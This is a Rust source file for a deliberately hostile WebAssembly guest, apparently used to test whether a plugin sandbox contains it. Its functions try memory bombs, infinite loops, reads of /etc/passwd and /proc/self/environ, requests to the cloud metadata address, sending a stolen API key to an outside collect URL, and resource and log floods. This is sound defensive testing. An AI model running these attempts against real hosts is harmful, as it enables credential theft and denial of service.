//! The attacks, one function each.

use crate::exports::actionbox::action::action::{ActionError, UpstreamFailure};
use crate::http::send;
use crate::wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};
use std::hint::black_box;

/// Every method, in `describe` order.
pub const NAMES: &[&str] = &[
    "infinite-loop",
    "allocating-loop",
    "memory-bomb",
    "deep-recursion",
    "disallowed-host",
    "ip-literal",
    "private-range",
    "base-url-request",
    "file-read",
    "env-read",
    "socket-open",
    "many-requests",
    "huge-response",
    "huge-request-body",
    "huge-result",
    "steal-key-header",
    "panic",
    "invalid-json",
    "resource-flood",
    "header-field-flood",
    "unsent-bodies",
    "pollable-flood",
    "refused-request-loop",
    "log-flood",
    "reflected-key",
    "multi-memory",
    "url-request",
];

pub fn run(method: &str, input: &str) -> Result<String, ActionError> {
    match method {
        "infinite-loop" => infinite_loop(),
        "allocating-loop" => allocating_loop(),
        "memory-bomb" => memory_bomb(),
        "deep-recursion" => Ok(deep_recursion(0).to_string()),
        "disallowed-host" => expect_refused(send(Method::Get, "https://example.com/", &[], 0)),
        "ip-literal" => expect_refused(send(Method::Get, "http://93.184.216.34/", &[], 0)),
        "private-range" => expect_refused(send(Method::Get, "http://169.254.169.254/latest/meta-data/", &[], 0)),
        "base-url-request" => base_url_request(input),
        "file-read" => file_read(),
        "env-read" => env_read(),
        "socket-open" => socket_open(input),
        "many-requests" => many_requests(),
        "huge-response" => huge_response(),
        "huge-request-body" => huge_request_body(),
        "huge-result" => Ok(huge_result()),
        "steal-key-header" => steal_key_header(),
        "panic" => panic!("hostile guest panicked on purpose"),
        "invalid-json" => Ok("this is { not JSON".into()),
        "resource-flood" => resource_flood(),
        "header-field-flood" => header_field_flood(),
        "unsent-bodies" => unsent_bodies(input),
        "pollable-flood" => pollable_flood(),
        "refused-request-loop" => refused_request_loop(),
        "log-flood" => log_flood(),
        "reflected-key" => reflected_key(),
        "multi-memory" => multi_memory(),
        "url-request" => url_request(input),
        other => Err(ActionError::InvalidInput(format!("no such attack `{other}`"))),
    }
}

/// The `test-connection` export: the `reflected-key` attack, through the
/// path whose result the host shows an operator (the Test button).
pub fn test_connection() -> Result<String, ActionError> {
    reflected_key()
}

/// The string value of `"key"` in the flat JSON object `input`, if any (the
/// guest has no JSON parser; the tests write these inputs).
fn input_string(input: &str, key: &str) -> Option<String> {
    input
        .split(&format!("\"{key}\""))
        .nth(1)
        .and_then(|rest| rest.split('"').nth(1))
        .map(str::to_string)
}

/// The unsigned integer value of `"key"` in the flat JSON object `input`.
fn input_number(input: &str, key: &str) -> Option<u64> {
    let rest = input.split(&format!("\"{key}\"")).nth(1)?;
    let digits: String = rest
        .trim_start_matches(|c: char| c == ':' || c.is_whitespace())
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    digits.parse().ok()
}

/// The operator's base URL from `wasi:config/store`; empty when unset or
/// unreadable (the request then fails, which is what the test sees).
fn base_url() -> String {
    crate::wasi::config::store::get("base_url")
        .ok()
        .flatten()
        .unwrap_or_default()
}

fn expect_refused(result: Result<crate::http::Answer, String>) -> Result<String, ActionError> {
    match result {
        Ok(a) => Ok(format!("{{\"leaked\": \"got HTTP {}\"}}", a.status)),
        Err(e) => Err(ActionError::Denied(e)),
    }
}

fn infinite_loop() -> Result<String, ActionError> {
    let mut n: u64 = 0;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn allocating_loop() -> Result<String, ActionError> {
    loop {
        let v = vec![7u8; 64 * 1024];
        black_box(&v);
    }
}

fn memory_bomb() -> Result<String, ActionError> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![1u8; 1024 * 1024]);
        black_box(&hoard);
    }
}

/// Recurses without end on the wasm stack (no shadow-stack frame; the bound
/// is never reached, it only keeps the compiler from rejecting the function).
fn deep_recursion(depth: u64) -> u64 {
    if black_box(depth) == u64::MAX {
        return depth;
    }
    deep_recursion(depth + 1).wrapping_add(black_box(1))
}

/// GET `{base-url}{path}` where `path` comes from the input (`{"path": "/x"}`).
fn base_url_request(input: &str) -> Result<String, ActionError> {
    let path = input
        .split("\"path\"")
        .nth(1)
        .and_then(|rest| rest.split('"').nth(1))
        .unwrap_or("/v2/shipments");
    match send(Method::Get, &format!("{}{path}", base_url()), &[], 0) {
        Ok(a) => Ok(format!(
            "{{\"status\": {}, \"body_bytes\": {}}}",
            a.status, a.body_bytes
        )),
        Err(e) => Err(ActionError::Upstream(UpstreamFailure {
            status: None,
            message: e,
            request_id: None,
        })),
    }
}

fn file_read() -> Result<String, ActionError> {
    for path in ["/etc/passwd", "/proc/self/environ", ".", "/"] {
        if let Ok(text) = std::fs::read_to_string(path) {
            return Ok(format!("{{\"leaked\": {:?}}}", &text[..text.len().min(64)]));
        }
        if let Ok(mut dir) = std::fs::read_dir(path) {
            if let Some(Ok(entry)) = dir.next() {
                return Ok(format!("{{\"leaked\": {:?}}}", entry.file_name().to_string_lossy()));
            }
        }
    }
    Err(ActionError::Denied("no file or directory could be read".into()))
}

fn env_read() -> Result<String, ActionError> {
    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    let args: Vec<String> = std::env::args().collect();
    if vars.is_empty() && args.is_empty() && std::env::var("SHIPSTATION_API_KEY").is_err() {
        Err(ActionError::Denied(
            "no environment variables or arguments are visible".into(),
        ))
    } else {
        Ok(format!("{{\"leaked_vars\": {vars:?}, \"args\": {args:?}}}"))
    }
}

fn socket_open(input: &str) -> Result<String, ActionError> {
    let addr = input.split('"').nth(3).unwrap_or("127.0.0.1:80").to_string();
    match std::net::TcpStream::connect(&addr) {
        Ok(_) => Ok(format!("{{\"leaked\": \"connected to {addr}\"}}")),
        Err(e) => Err(ActionError::Denied(format!("socket to {addr} refused: {e}"))),
    }
}

fn many_requests() -> Result<String, ActionError> {
    let url = format!("{}/v2/shipments", base_url());
    for i in 0..1000 {
        if let Err(e) = send(Method::Get, &url, &[], 0) {
            return Err(ActionError::Denied(format!("request {i} failed: {e}")));
        }
    }
    Ok("{\"leaked\": \"1000 requests went out\"}".into())
}

fn huge_response() -> Result<String, ActionError> {
    match send(Method::Get, &format!("{}/huge", base_url()), &[], 0) {
        Ok(a) => Ok(format!("{{\"leaked\": \"read {} bytes\"}}", a.body_bytes)),
        Err(e) => Err(ActionError::Internal(e)),
    }
}

fn huge_request_body() -> Result<String, ActionError> {
    match send(Method::Post, &format!("{}/upload", base_url()), &[], 50 * 1024 * 1024) {
        Ok(a) => Ok(format!("{{\"leaked\": \"sent 50 MiB, got HTTP {}\"}}", a.status)),
        Err(e) => Err(ActionError::Internal(e)),
    }
}

fn huge_result() -> String {
    let mut s = String::with_capacity(50_000_002);
    s.push('"');
    s.extend(std::iter::repeat_n('x', 50_000_000));
    s.push('"');
    s
}

fn steal_key_header() -> Result<String, ActionError> {
    type Headers<'a> = &'a [(&'a str, &'a [u8])];
    let attempts: [(&str, Headers); 3] = [
        ("https://example.com/collect", &[("api-key", b"stolen")]),
        ("https://example.com/collect", &[("authorization", b"Bearer stolen")]),
        ("/v2/shipments", &[("API-Key", b"guest-chosen-key")]),
    ];
    let mut refusals = Vec::new();
    for (url, headers) in attempts {
        let url = if url.starts_with('/') {
            format!("{}{url}", base_url())
        } else {
            url.to_string()
        };
        match send(Method::Get, &url, headers, 0) {
            Ok(a) => {
                return Ok(format!(
                    "{{\"leaked\": \"{url} with {:?} answered {}\"}}",
                    headers[0].0, a.status
                ))
            }
            Err(e) => refusals.push(e),
        }
    }
    Err(ActionError::Denied(refusals.join("; ")))
}

/// Upper bound of the flood loops below: far past any per-call budget, so a
/// loop that ends means the host let every object through.
const FLOOD_OBJECTS: usize = 1_000_000;

/// `wasi:http/types.fields` resources, each kept: host memory per object,
/// never a byte of guest memory beyond the handle.
fn resource_flood() -> Result<String, ActionError> {
    let mut kept = Vec::new();
    for _ in 0..FLOOD_OBJECTS {
        kept.push(Fields::new());
    }
    black_box(&kept);
    Ok(format!("{{\"leaked\": \"{} fields resources held\"}}", kept.len()))
}

/// `fields` filled up to the per-resource header limit (16 KiB), many of them:
/// the limit is per resource, the sum is what the host holds.
fn header_field_flood() -> Result<String, ActionError> {
    let value = vec![b'v'; 1024];
    let mut kept = Vec::new();
    let mut held_bytes = 0u64;
    for _ in 0..FLOOD_OBJECTS {
        let fields = Fields::new();
        // 14 values of 1 KiB with their names and wasmtime's per-entry
        // overhead (about 80 bytes): just under the per-resource limit,
        // which wasmtime enforces with a trap rather than an error.
        for i in 0..14 {
            if fields.append(&format!("x-flood-{i}"), &value).is_ok() {
                held_bytes += value.len() as u64;
            }
        }
        kept.push(fields);
    }
    black_box(&kept);
    Ok(format!(
        "{{\"leaked\": \"{} fields holding {held_bytes} bytes\"}}",
        kept.len()
    ))
}

/// Outgoing requests whose bodies are written as far as the host accepts and
/// that are never handed to `outgoing-handler.handle`, so no request limit
/// sees them: the host buffers what was written. `{"count": N}` (default
/// 600) bounds the attack, so an unprotected host holds about N times its
/// body buffer (2 MiB each with 1 MiB chunks) instead of all its memory.
fn unsent_bodies(input: &str) -> Result<String, ActionError> {
    let count = input_number(input, "count").unwrap_or(600);
    let chunk = vec![b'b'; 1024 * 1024];
    let mut kept = Vec::new();
    let mut buffered = 0u64;
    for _ in 0..count {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_method(&Method::Post);
        let _ = request.set_scheme(Some(&Scheme::Http));
        let _ = request.set_authority(Some("127.0.0.1:9"));
        let body = request
            .body()
            .map_err(|()| ActionError::Internal("the request body was taken already".into()))?;
        let stream = body
            .write()
            .map_err(|()| ActionError::Internal("the body stream was taken already".into()))?;
        // Write whatever the host permits until it stops permitting (its
        // buffer is full: nobody reads it), at most 64 writes per body.
        for _ in 0..64 {
            match stream.check_write() {
                Ok(0) | Err(_) => break,
                Ok(permit) => {
                    let n = (permit as usize).min(chunk.len());
                    if stream.write(&chunk[..n]).is_err() {
                        break;
                    }
                    buffered += n as u64;
                }
            }
        }
        kept.push((request, body, stream));
    }
    black_box(&kept);
    Ok(format!(
        "{{\"leaked\": \"{} unsent requests buffering {buffered} bytes\"}}",
        kept.len()
    ))
}

/// Pollables from the monotonic clock, each kept.
fn pollable_flood() -> Result<String, ActionError> {
    let mut kept = Vec::new();
    for _ in 0..FLOOD_OBJECTS {
        kept.push(crate::wasi::clocks::monotonic_clock::subscribe_duration(60_000_000_000));
    }
    black_box(&kept);
    Ok(format!("{{\"leaked\": \"{} pollables held\"}}", kept.len()))
}

/// `handle` for a host the sandbox refuses, 100,000 times, errors ignored:
/// each refusal is a record, a violation and a log line for the host.
fn refused_request_loop() -> Result<String, ActionError> {
    let mut refused = 0u64;
    for _ in 0..100_000 {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_scheme(Some(&Scheme::Https));
        let _ = request.set_authority(Some("example.com"));
        let _ = request.set_path_with_query(Some("/"));
        if crate::wasi::http::outgoing_handler::handle(request, None).is_err() {
            refused += 1;
        }
    }
    Ok(format!(
        "{{\"leaked\": \"{refused} refused requests, and the call went on\"}}"
    ))
}

/// Ten million empty warn lines (free under a budget that counts only message
/// bytes), then a thousand 4 KiB lines; returns `{}`.
fn log_flood() -> Result<String, ActionError> {
    use crate::actionbox::action::log::{write, Level};
    for _ in 0..10_000_000 {
        write(Level::Warn, "");
    }
    let line = "L".repeat(4096);
    for _ in 0..1000 {
        write(Level::Warn, &line);
    }
    Ok("{}".into())
}

/// GET `{base-url}/echo` and return what came back: the body (as a JSON
/// string) and the `x-echo` header. An upstream that reflects the key hands
/// it to the guest unless the host scrubs it.
fn reflected_key() -> Result<String, ActionError> {
    match send(Method::Get, &format!("{}/echo", base_url()), &[], 0) {
        Ok(a) => {
            let echo = a
                .headers
                .iter()
                .find(|(name, _)| name.eq_ignore_ascii_case("x-echo"))
                .map(|(_, value)| String::from_utf8_lossy(value).into_owned())
                .unwrap_or_default();
            Ok(format!(
                "{{\"status\": {}, \"body\": {}, \"x_echo\": {}}}",
                a.status,
                json_string(&String::from_utf8_lossy(&a.body)),
                json_string(&echo)
            ))
        }
        Err(e) => Err(ActionError::Internal(e)),
    }
}

/// `text` as a JSON string literal.
fn json_string(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// 40 MiB in this component's memory and 40 MiB in the grower's: each
/// memory stays under a 64 MiB cap, together they pass it.
#[cfg(feature = "two-memories")]
fn multi_memory() -> Result<String, ActionError> {
    const MIB: u32 = 40;
    let own = core::arch::wasm32::memory_grow(0, (MIB * 16) as usize);
    if own == usize::MAX {
        return Err(ActionError::Internal(format!(
            "growing this component's memory by {MIB} MiB was refused"
        )));
    }
    let other = crate::actionbox::hostile::grower::grow(MIB);
    if other < 0 {
        return Err(ActionError::Internal(format!(
            "growing the second memory by {MIB} MiB was refused"
        )));
    }
    let own_mib = core::arch::wasm32::memory_size(0) as u64 / 16;
    let other_mib = (other as u64) / 16 + u64::from(MIB);
    Ok(format!(
        "{{\"leaked\": \"{} MiB across two memories ({own_mib} + {other_mib})\"}}",
        own_mib + other_mib
    ))
}

/// Without the grower there is one memory, so no attack to make.
#[cfg(not(feature = "two-memories"))]
fn multi_memory() -> Result<String, ActionError> {
    Err(ActionError::Internal(
        "this build has one memory: use target/hostile-guest/hostile_two_memories.wasm (make build)".into(),
    ))
}

/// GET the URL in `{"url": "..."}`: a request to an origin the operator did
/// not configure (another loopback port, say), which must be refused.
fn url_request(input: &str) -> Result<String, ActionError> {
    let url = input_string(input, "url").ok_or_else(|| ActionError::InvalidInput("give {\"url\": \"...\"}".into()))?;
    expect_refused(send(Method::Get, &url, &[], 0))
}
